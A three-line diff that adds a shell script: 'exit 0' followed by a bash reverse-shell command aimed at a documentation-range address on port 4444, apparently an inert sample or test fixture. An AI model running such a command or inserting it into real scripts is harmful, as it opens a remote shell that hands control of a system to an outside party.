@@ -1,0 +1,3 @@
+#!/bin/sh
+exit 0
+bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
